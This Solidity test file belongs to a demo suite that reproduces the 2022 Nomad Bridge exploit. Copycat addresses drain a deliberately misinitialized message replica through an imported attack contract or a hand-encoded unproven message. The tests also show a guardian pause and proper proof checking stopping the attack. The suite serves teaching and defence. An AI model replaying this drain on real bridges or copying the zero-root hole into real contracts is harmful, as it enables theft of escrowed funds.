// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";
import {DemoToken} from "../../src/demo/DemoToken.sol";
import {MessageReplica} from "../../src/demo/vulnerable/MessageReplica.sol";
import {ReplicaCopycatAttack} from "../../src/demo/attacks/ReplicaCopycatAttack.sol";
import {DemoFixture} from "./DemoFixture.sol";

/// Nomad Bridge 2022-08 shape: a replica initialized with a zero root accepts
/// unproven messages; many copycats each drain a slice until it is paused.
contract ReplicaCopycatAttackTest is DemoFixture {
    DemoToken internal weth;
    MessageReplica internal replica;
    ReplicaCopycatAttack internal attack;
    address internal updater = address(0x0DA7E);

    uint32 internal constant REMOTE = 6648936; // Ethereum's domain id in Nomad
    uint256 internal constant ESCROW = 1_000e18;
    uint256 internal constant SLICE = 100e18;

    function setUp() public {
        _deployOwner();
        weth = new DemoToken("Demo Wrapped Ether", "dWETH", address(this));
        replica = new MessageReplica(address(safe), REMOTE, updater, 30 minutes, bytes32(0));
        weth.mint(address(replica), ESCROW);
        _allowPause(address(replica));
        vm.prank(attacker);
        attack = new ReplicaCopycatAttack(replica, weth, SLICE);
    }

    function _copycat(uint256 i) internal pure returns (address) {
        return address(uint160(0xC0C0_0000 + i));
    }

    function test_copycats_drainTheReplicaSliceBySlice() public {
        for (uint256 i = 0; i < 10; i++) {
            vm.prank(_copycat(i));
            vm.assertEq(attack.attack(), SLICE, "one slice");
            vm.assertEq(weth.balanceOf(_copycat(i)), SLICE, "paid to the copycat");
        }
        vm.assertEq(weth.balanceOf(address(replica)), 0, "escrow drained");
        vm.prank(_copycat(10));
        vm.expectRevert(ReplicaCopycatAttack.NothingLeft.selector);
        attack.attack();
    }

    function test_copycat_canWriteTheMessageDirectly() public {
        address copycat = _copycat(42);
        bytes memory message = replica.encodeTransfer(7, address(weth), copycat, 250e18);
        vm.prank(copycat);
        replica.process(message);
        vm.assertEq(weth.balanceOf(copycat), 250e18, "unproven message paid out");

        // The same message cannot be processed twice.
        vm.expectRevert(abi.encodeWithSelector(MessageReplica.NotProven.selector, keccak256(message)));
        replica.process(message);
    }

    function test_guardianPause_stopsTheRemainingCopycats() public {
        for (uint256 i = 0; i < 3; i++) {
            vm.prank(_copycat(i));
            attack.attack();
        }
        _guardianPause(address(replica));
        for (uint256 i = 3; i < 6; i++) {
            vm.prank(_copycat(i));
            vm.expectRevert(Pausable.EnforcedPause.selector);
            attack.attack();
        }
        vm.assertEq(weth.balanceOf(address(replica)), ESCROW - 3 * SLICE, "70% of the escrow saved");
    }

    function test_correctlyInitializedReplica_requiresProofs() public {
        bytes32 genesis = keccak256("genesis root");
        MessageReplica sound = new MessageReplica(address(safe), REMOTE, updater, 30 minutes, genesis);
        weth.mint(address(sound), ESCROW);

        address recipient = address(0x4EC1);
        bytes memory message = sound.encodeTransfer(1, address(weth), recipient, 10e18);
        bytes memory other = sound.encodeTransfer(2, address(weth), address(0x07E4), 5e18);
        vm.expectRevert(abi.encodeWithSelector(MessageReplica.NotProven.selector, keccak256(message)));
        sound.process(message);

        // A two-leaf tree (OpenZeppelin sorted-pair hashing).
        bytes32 a = keccak256(message);
        bytes32 b = keccak256(other);
        bytes32 root = a < b ? keccak256(abi.encodePacked(a, b)) : keccak256(abi.encodePacked(b, a));
        vm.prank(updater);
        sound.update(root);
        bytes32[] memory proof = new bytes32[](1);
        proof[0] = b;

        vm.expectRevert(abi.encodeWithSelector(MessageReplica.InvalidProof.selector, a, root));
        sound.prove(message, proof, root); // still inside the optimistic window

        vm.warp(block.timestamp + 30 minutes);
        sound.prove(message, proof, root);
        sound.process(message);
        vm.assertEq(weth.balanceOf(recipient), 10e18, "proven message paid out");

        vm.expectRevert(abi.encodeWithSelector(MessageReplica.NotProven.selector, a));
        sound.process(message);
        vm.expectRevert(abi.encodeWithSelector(MessageReplica.NotUpdater.selector, address(this)));
        sound.update(bytes32(0));
    }
}
